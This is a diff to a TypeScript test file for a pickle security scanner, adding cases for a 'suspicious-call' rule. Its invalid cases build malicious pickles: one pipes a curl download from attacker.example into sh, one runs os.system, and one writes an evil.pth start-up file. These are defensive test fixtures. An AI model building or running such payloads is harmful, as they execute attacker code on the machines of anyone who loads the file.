@@ -50,6 +50,30 @@ export const PICKLE_RULE_CASES: readonly RuleCases[] = [
       },
     ],
   }),
+  ruleCases('pickle/suspicious-call', {
+    valid: [
+      { name: 'PyTorch state dict', files: { 'model.pkl': stateDict } },
+      { name: 'an unknown class constructed with a path (a configuration object)', files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mypackage.config', 'DataConfig').value(tuple('/data/train.csv')).reduce().stop()) } },
+      { name: 'an unknown function called with plain words', files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mypackage.activations', 'get_activation').value(tuple('relu')).reduce().stop()) } },
+    ],
+    invalid: [
+      {
+        name: 'a diagnostics helper called with a shell command',
+        files: { 'model.pkl': () => pickle((b) => b.proto(4).stackGlobal('mylib.diagnostics', 'run_command').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop()) },
+        expect: { severity: 'high', messageIncludes: 'shell command' },
+      },
+      {
+        name: 'a test utility called with Python source',
+        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('somelib.testing.utils', 'run_source').value(tuple('import os; os.system("id")')).reduce().stop()) },
+        expect: { severity: 'high', messageIncludes: 'Python code' },
+      },
+      {
+        name: 'a writer pointed at a .pth start-up file',
+        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mlframework.io', 'write_text_file').value(tuple('/usr/lib/python3/dist-packages/evil.pth', 'import os')).reduce().stop()) },
+        expect: { severity: 'high' },
+      },
+    ],
+  }),
   ruleCases('pickle/unresolved-call', {
     valid: [{ name: 'PyTorch state dict', files: { 'model.pkl': stateDict } }],
     invalid: [
